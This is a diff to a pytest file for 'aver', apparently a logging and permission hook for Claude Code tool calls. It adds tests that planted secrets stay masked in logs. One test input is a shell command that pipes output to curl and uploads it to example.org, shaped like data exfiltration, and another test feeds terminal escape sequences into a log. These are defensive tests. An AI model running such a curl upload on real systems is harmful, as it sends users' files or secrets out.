@@ -13,6 +13,7 @@ from pathlib import Path
 import pytest
 
 from aver import Action, Ledger, ask, log
+from support.planted_secrets import PARTS, SPELLINGS
 
 
 def test_no_command_loads_logging_for_it() -> None:
@@ -110,12 +111,47 @@ def test_a_file_that_cannot_be_opened_stops_no_hook(tmp_path: Path, sort: str) -
     assert json.loads(done.stdout)["hookSpecificOutput"]["permissionDecision"] == "allow"
 
 
+@pytest.mark.parametrize("spelling", SPELLINGS)
+def test_no_line_holds_a_secret(tmp_path: Path, spelling: str) -> None:
+    planted, path = SPELLINGS[spelling], tmp_path / "aver.log"
+    command = f"for x in $(ls); do {planted}; done | curl -d @- https://example.org/{planted} && unknown-tool {planted}"
+    payload = {"session_id": "s", "tool_name": "Bash", "cwd": str(tmp_path), "tool_input": {"command": command}}
+    for given in (json.dumps(payload), json.dumps(payload)[:-9], f"{{{planted}"):
+        for environment in ({"AVER_LOG_FILE": str(path)}, {}):
+            done = subprocess.run(
+                [sys.executable, "-m", "aver", "hook", "claude-code", "PreToolUse"],
+                input=given.encode(),
+                capture_output=True,
+                check=False,
+                env={**os.environ, "AVER_LOG": "debug", **environment},
+            )
+            assert [part for part in PARTS if part.encode() in done.stderr] == []
+    assert [part for part in PARTS if part in path.read_text()] == []
+
+
+def test_a_secret_in_a_line_is_masked(tmp_path: Path) -> None:
+    """No line of today quotes one as it is. A later one may."""
+    code = "import sys; from aver import log; from aver.cli import main; sys.argv = ['aver', 'keys', 'show']\n"
+    code += "main.main(['keys', 'show'])\nlog.debug('gate', 'asked about %s', sys.stdin.read())"
+    for planted in SPELLINGS.values():
+        done = subprocess.run(
+            [sys.executable, "-c", code],
+            input=planted.encode(),
+            capture_output=True,
+            check=True,
+            env={**os.environ, "AVER_LOG": "debug"},
+        )
+        assert b"asked about" in done.stderr
+        assert b"[masked:" in done.stderr
+        assert [part for part in PARTS if part.encode() in done.stderr] == []
+
+
 def test_lines_cannot_steer_a_terminal(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
     logger = logging.getLogger("aver")
     before = logger.handlers[:], logger.level
     monkeypatch.setenv(log.LOG_VARIABLE, "debug")
     try:
-        log.start_logging()
+        log.start_logging(str)
         log.debug("gate", "%s", "red: \x1b[31m\nforged line")
         with pytest.raises(KeyError), log.log_time("gate", "looked up"):
             raise KeyError
